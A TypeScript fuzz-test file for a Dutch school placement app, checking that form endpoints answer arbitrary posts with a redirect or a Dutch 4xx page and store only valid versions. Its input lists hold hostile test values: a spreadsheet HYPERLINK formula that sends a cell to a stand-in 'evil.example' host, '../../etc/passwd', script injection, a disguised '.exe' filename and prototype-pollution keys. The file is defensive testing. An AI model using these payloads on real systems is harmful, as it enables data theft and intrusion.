import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../../functions/http/app.tsx';
import { getForm } from '../../../forms/index.ts';
import { parseInstant, type Clock } from '../../../shared/clock.ts';
import { answersSchema, fieldName } from '../../../shared/forms/answers.ts';
import { formItems, SCALE_VALUES } from '../../../shared/forms/definition.ts';
import { ensureStudentLink } from '../../../shared/usecases/welcome.ts';
import { Placement } from '../../../shared/roster/placement.ts';
import { OBSERVER_ROLES, type RequestRecord } from '../../../shared/model/requests.ts';
import { appDeps, TEST_ORIGIN } from '../../support/app.ts';
import { freshBucket, freshTable, localClients } from '../../support/aws.ts';
import { completeFields } from '../../support/forms.ts';
import { inboxOf, tokenIn } from '../../support/inbox.ts';

/**
 * Property tests of the two form endpoints with arbitrary bodies: whatever arrives, the answer is a
 * redirect (303) or a Dutch 4xx page, never a 5xx, and the store holds exactly what the redirects
 * said was saved, each version valid against its form.
 */

const kijkwijzer = getForm('kijkwijzer-pedagogiek')!;
const clock: Clock = { now: () => parseInstant('2025-11-10T09:00') };
const KIJKWIJZERS = ['kijkwijzer-pedagogiek', 'kijkwijzer-didactiek', 'kijkwijzer-digitale-didactiek', 'kijkwijzer-vakdidactiek'];

function placement(suffix: string) {
  return Placement.parse({
    schoolYear: '2025-2026',
    studentNumber: `88${suffix}`,
    student: { name: 'Zoë de Vries', email: `zoe.fuzz${suffix}@student.example.nl` },
    vak: 'Nederlands',
    school: 'Wolfert van Borselen',
    wpb: { name: "Jan van 't Hek", email: `jan.fuzz${suffix}@wolfert.example.nl` },
    so: { name: 'Saskia Bakker', email: `so.fuzz${suffix}@wolfert.example.nl` },
    io: { name: 'Ivo Jansen', email: `io.fuzz${suffix}@hr.example.nl` },
    sco: { name: 'Fatima El Amrani', email: `sco.fuzz${suffix}@wolfert.example.nl` },
  });
}

// --- Arbitraries -------------------------------------------------------------------------------

/** A file part in a multipart body. */
interface FilePart {
  file: Uint8Array;
  filename: string;
  type: string;
}
type Value = string | FilePart;

/** Replaced, when sent, by the request's current version, so that some posts can succeed. */
const CURRENT_BASIS = '$basis';

const nasty = fc.constantFrom(
  '=HYPERLINK("https://evil.example/?q="&A1,"klik hier")',
  '+SUM(1;2)',
  '@cmd',
  '-2+3',
  '\u0000\u0001\u0008\u001b\u007f',
  'regel 1\r\nregel 2\rregel 3\n',
  'Zoë 😀👩🏽‍🏫 ﷽',
  '\u202egpj.exe',
  '<script>alert(1)</script>"\'&',
  '../../etc/passwd',
  '   ',
  '',
);
const scale = fc.constantFrom(...SCALE_VALUES, 'GOED', 'goed ', 'niet gezien', 'uitstekend');
const date = fc.constantFrom('2025-11-10', '2025-02-30', '1999-12-31', '2101-01-01', '10-11-2025', '2025-11-10T09:00');
const long = fc.integer({ min: 4990, max: 12_000 }).chain((n) => fc.constantFrom('x'.repeat(n), 'é'.repeat(n), '😀'.repeat(Math.ceil(n / 2))));
const text = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 3, arbitrary: nasty },
  { weight: 2, arbitrary: scale },
  { weight: 1, arbitrary: date },
  { weight: 1, arbitrary: long },
);
const filePart: fc.Arbitrary<FilePart> = fc.record({
  file: fc.oneof(fc.uint8Array({ maxLength: 300 }), fc.constant(new TextEncoder().encode('MZ\u0090\u0000 this program'))),
  filename: fc.constantFrom('les.pdf', '../../x.exe', 'a\r\nb.png', ''),
  type: fc.constantFrom('application/pdf', 'application/octet-stream', 'text/html', ''),
});
const value: fc.Arbitrary<Value> = fc.oneof({ weight: 9, arbitrary: text }, { weight: 1, arbitrary: filePart });

function names(codes: string[], fixed: string[]) {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...codes.map(fieldName), ...fixed) },
    { weight: 1, arbitrary: fc.constantFrom('a.', 'a.__proto__', '__proto__', 'constructor', 'actie[]', 'a.FEEDBACK[]', 'a.PED-1.x', 'a[PED-1]') },
    { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 10 }).map((s) => `a.${s}`) },
  );
}

/** The ways a body reaches the server. */
type Encoding = 'urlencoded' | 'multipart' | 'json';

/** Bytes with any content type: broken multipart, JSON that is not, binary junk. */
interface Garbage {
  kind: 'garbage';
  contentType: string | undefined;
  bytes: Uint8Array;
}
const garbage: fc.Arbitrary<Garbage> = fc.record({
  kind: fc.constant('garbage' as const),
  contentType: fc.constantFrom(
    undefined,
    'application/x-www-form-urlencoded',
    'application/x-www-form-urlencoded; charset=iso-8859-1',
    'multipart/form-data',
    'multipart/form-data; boundary=----x',
    'MULTIPART/FORM-DATA; boundary="q"',
    'application/json',
    'text/plain',
    'application/octet-stream',
    'image/png',
    'x/y; z',
  ),
  bytes: fc.oneof(
    fc.uint8Array({ maxLength: 2000 }),
    fc.string({ unit: 'binary', maxLength: 300 }).map((s) => new TextEncoder().encode(s)),
    fc.constantFrom('------x\r\nContent-Disposition: form-data; name="actie"\r\n\r\nconcept', '--q--', '{"actie":"concept","basis":0}', 'actie=concept&basis=%ZZ&a.PED-1=%E0%A4%A').map((s) =>
      new TextEncoder().encode(s),
    ),
  ),
});

/** A form post: some known fields (maybe), perhaps a complete set of answers, then random entries. */
interface FormBody {
  kind: 'form';
  encoding: Encoding;
  fixed: [string, Value][];
  complete: boolean;
  entries: [string, Value][];
}

function formBody(fixedFields: Record<string, fc.Arbitrary<Value>>, codes: string[]): fc.Arbitrary<FormBody> {
  const fixed = fc.tuple(
    ...Object.entries(fixedFields).map(([name, arbitrary]) => fc.option(arbitrary, { freq: 10 }).map((v) => (v === null ? [] : [[name, v] as [string, Value]]))),
  );
  return fc.record({
    kind: fc.constant('form' as const),
    encoding: fc.constantFrom<Encoding>('urlencoded', 'urlencoded', 'multipart', 'multipart', 'json'),
    fixed: fixed.map((parts) => parts.flat()),
    complete: fc.boolean(),
    // Often none, so that a good share of the posts can succeed and the store gets exercised too.
    entries: fc.oneof(fc.constant<[string, Value][]>([]), fc.array(fc.tuple(names(codes, Object.keys(fixedFields)), value), { minLength: 1, maxLength: 8 })),
  });
}

// --- Sending -----------------------------------------------------------------------------------

function asString(v: Value): string {
  return typeof v === 'string' ? v : new TextDecoder().decode(v.file);
}

/** The request a body becomes; `basis` replaces the {@link CURRENT_BASIS} placeholder. */
function toRequestInit(body: FormBody | Garbage, base: Record<string, string>, basis: number): RequestInit {
  const headers: Record<string, string> = { Origin: TEST_ORIGIN };
  if (body.kind === 'garbage') {
    if (body.contentType !== undefined) headers['Content-Type'] = body.contentType;
    return { method: 'POST', headers, body: body.bytes };
  }
  const entries: [string, Value][] = [...body.fixed, ...(body.complete ? Object.entries(base) : []), ...body.entries].map(([k, v]) => [
    k,
    v === CURRENT_BASIS ? String(basis) : v,
  ]);
  switch (body.encoding) {
    case 'urlencoded': {
      const params = new URLSearchParams();
      for (const [k, v] of entries) params.append(k, asString(v));
      headers['Content-Type'] = 'application/x-www-form-urlencoded';
      return { method: 'POST', headers, body: params.toString() };
    }
    case 'multipart': {
      const form = new FormData();
      for (const [k, v] of entries) {
        if (typeof v === 'string') form.append(k, v);
        else form.append(k, new Blob([v.file as Uint8Array<ArrayBuffer>], { type: v.type }), v.filename);
      }
      return { method: 'POST', headers, body: form };
    }
    case 'json':
      headers['Content-Type'] = 'application/json';
      return { method: 'POST', headers, body: JSON.stringify(Object.fromEntries(entries.map(([k, v]) => [k, asString(v)]))) };
  }
}

/** Mostly one of the good values, sometimes a bad one, sometimes anything. */
function mostly<T extends string>(good: readonly T[], bad: readonly string[]): fc.Arbitrary<Value> {
  return fc.oneof(
    { weight: 8, arbitrary: fc.constantFrom(...good) },
    { weight: 1, arbitrary: fc.constantFrom(...bad) },
    { weight: 1, arbitrary: text },
  );
}

/** Checks the one rule for every answer: a 303 to the page itself, or a 4xx Dutch HTML page. */
async function expectRedirectOrDutch4xx(response: Response, redirectPrefix: string): Promise<'saved' | 'refused'> {
  if (response.status === 303) {
    expect(response.headers.get('location')).toMatch(new RegExp(`^${redirectPrefix.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\?`));
    return 'saved';
  }
  const body = await response.text();
  expect(response.status, body.slice(0, 500)).toBeGreaterThanOrEqual(400);
  expect(response.status, body.slice(0, 500)).toBeLessThan(500);
  expect(response.headers.get('content-type')).toMatch(/^text\/html/);
  expect(body).toContain('lang="nl"');
  return 'refused';
}

// --- Tests -------------------------------------------------------------------------------------

describe('the form endpoints with arbitrary bodies (fast-check)', () => {
  let app: ReturnType<typeof createApp>;
  let deps: ReturnType<typeof appDeps>;

  const post = (path: string, fields: Record<string, string>) =>
    app.request(path, {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', Origin: TEST_ORIGIN },
      body: new URLSearchParams(fields).toString(),
    });

  async function studentWithToken(suffix: string) {
    const p = placement(suffix);
    await deps.placements.create(p, clock.now().toString());
    await ensureStudentLink(deps, p);
    return { p, studentToken: tokenIn((await inboxOf(p.student.email))[0], 's') };
  }

  beforeAll(async () => {
    const clients = localClients();
    const names = { tableName: await freshTable(clients), bucket: await freshBucket(clients) };
    // The runs post far more than a person would; the rate limits have tests of their own.
    deps = { ...appDeps(clients, names, clock), rateLimits: { perAddress: 1_000_000, perToken: 1_000_000 } };
    app = createApp(deps);
  });

  it('answers every post to /f/<token> with a 303 or a Dutch 4xx, and stores exactly the versions it redirected for, each valid', async () => {
    const { p, studentToken } = await studentWithToken('01');
    expect((await post(`/s/${studentToken}/aanvragen`, { formId: kijkwijzer.id, observerRole: 'wpb', lessonDate: '2025-11-12' })).status).toBe(303);
    const formToken = tokenIn((await inboxOf(p.wpb.email)).at(-1), 'f');
    const [requested] = await deps.requests.listForPlacement(p.schoolYear, p.studentNumber);
    const codes = formItems(kijkwijzer).map((item) => item.code);
    const body = fc.oneof(
      {
        weight: 4,
        arbitrary: formBody(
          { basis: mostly([CURRENT_BASIS], ['-1', '1.5', '1e3', '1e21', '999', '9007199254740993', '0x1', ' ', '']), actie: mostly(['concept', 'versturen'], ['CONCEPT', 'opslaan']) },
          codes,
        ),
      },
      { weight: 1, arbitrary: garbage },
    );
    const good: FormBody = { kind: 'form', encoding: 'urlencoded', fixed: [['basis', CURRENT_BASIS], ['actie', 'concept']], complete: false, entries: [['a.FEEDBACK', 'Zoë 😀']] };
    let saved = 0;
    let refused = 0;

    await fc.assert(
      fc.asyncProperty(body, async (sample) => {
        const current = (await deps.requests.getByKeys({ PK: `PLC#${p.schoolYear}#${p.studentNumber}`, SK: `REQ#${requested!.requestId}` }))!;
        const response = await app.request(`/f/${formToken}`, toRequestInit(sample, completeFields(kijkwijzer), current.latestVersion));
        if ((await expectRedirectOrDutch4xx(response, `/f/${formToken}`)) === 'saved') saved++;
        else refused++;
      }),
      { numRuns: 90, examples: [[good]] },
    );

    const request = (await deps.requests.getByKeys({ PK: `PLC#${p.schoolYear}#${p.studentNumber}`, SK: `REQ#${requested!.requestId}` }))!;
    const versions = await deps.requests.listVersions(request);
    expect(saved).toBeGreaterThan(0);
    expect(refused).toBeGreaterThan(0);
    expect(versions).toHaveLength(saved);
    expect(versions.map((v) => v.version)).toEqual(versions.map((_, i) => i + 1));
    expect(request.latestVersion).toBe(saved);
    for (const version of versions) {
      const draft = answersSchema(kijkwijzer, 'draft').safeParse(version.answers);
      expect(draft.success, JSON.stringify(draft.error?.issues)).toBe(true);
      expect(draft.data).toEqual(version.answers);
      if (version.status === 'ingediend') expect(answersSchema(kijkwijzer, 'submit').safeParse(version.answers).success).toBe(true);
    }
    expect(request.state).toBe(versions.some((v) => v.status === 'ingediend') ? 'ingediend' : 'concept');
  });

  it('refuses a basis that is not a plain decimal safe integer with a Dutch 400, stores nothing, and takes the plain one', async () => {
    const { p, studentToken } = await studentWithToken('03');
    expect((await post(`/s/${studentToken}/aanvragen`, { formId: kijkwijzer.id, observerRole: 'wpb', lessonDate: '2025-11-12' })).status).toBe(303);
    const formToken = tokenIn((await inboxOf(p.wpb.email)).at(-1), 'f');
    const [requested] = await deps.requests.listForPlacement(p.schoolYear, p.studentNumber);
    const fields = { ...completeFields(kijkwijzer), actie: 'concept' };

    for (const basis of ['-1', '1.5', '1e21', '0x10', '', '9007199254740993', ' 0', '0 ', '+0', '٠']) {
      const response = await post(`/f/${formToken}`, { ...fields, basis });
      expect(response.status, `basis ${JSON.stringify(basis)}`).toBe(400);
      expect(await response.text()).toContain('Het formulier is onvolledig verstuurd; open de link opnieuw.');
    }
    const untouched = await deps.requests.get(p.schoolYear, p.studentNumber, requested!.requestId);
    expect(untouched!.latestVersion).toBe(0);
    expect(await deps.requests.listVersions(untouched!)).toHaveLength(0);

    expect((await post(`/f/${formToken}`, { ...fields, basis: '0' })).status).toBe(303);
    expect((await deps.requests.get(p.schoolYear, p.studentNumber, requested!.requestId))!.latestVersion).toBe(1);
  });

  it('answers every post to /s/<token>/aanvragen with a 303 or a Dutch 4xx, and stores exactly the requests it redirected for, each valid', async () => {
    const { p, studentToken } = await studentWithToken('02');
    const fields = {
      formId: mostly(KIJKWIJZERS, ['advies-wpb', 'kijkwijzer-onbekend', 'kijkwijzer-pedagogiek ']),
      observerRole: mostly(OBSERVER_ROLES, ['sco', 'rector', 'WPB']),
      lessonDate: mostly(['2025-11-12', '2025-11-05'], ['2025-02-30', '12-11-2025', '2025-11-1', '2025-11-20']),
      className: text,
      question: text,
    };
    const good: FormBody = {
      kind: 'form',
      encoding: 'multipart',
      fixed: [['formId', 'kijkwijzer-didactiek'], ['observerRole', 'so'], ['lessonDate', '2025-11-05'], ['className', '=HYPERLINK("x")']],
      complete: false,
      entries: [],
    };
    const body = fc.oneof({ weight: 4, arbitrary: formBody(fields, []) }, { weight: 1, arbitrary: garbage });
    let saved = 0;

    await fc.assert(
      fc.asyncProperty(body, async (sample) => {
        const response = await app.request(`/s/${studentToken}/aanvragen`, toRequestInit(sample, {}, 0));
        if ((await expectRedirectOrDutch4xx(response, `/s/${studentToken}`)) === 'saved') saved++;
      }),
      { numRuns: 40, examples: [[good]] },
    );

    const requests: RequestRecord[] = await deps.requests.listForPlacement(p.schoolYear, p.studentNumber);
    expect(saved).toBeGreaterThan(0);
    expect(requests).toHaveLength(saved);
    for (const request of requests) {
      expect(KIJKWIJZERS).toContain(request.formId);
      expect(OBSERVER_ROLES).toContain(request.observerRole);
      expect(request.lessonDate).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect((request.className ?? '').length).toBeLessThanOrEqual(40);
      expect((request.question ?? '').length).toBeLessThanOrEqual(1000);
      expect(request.state).toBe('gevraagd');
    }
  });
});
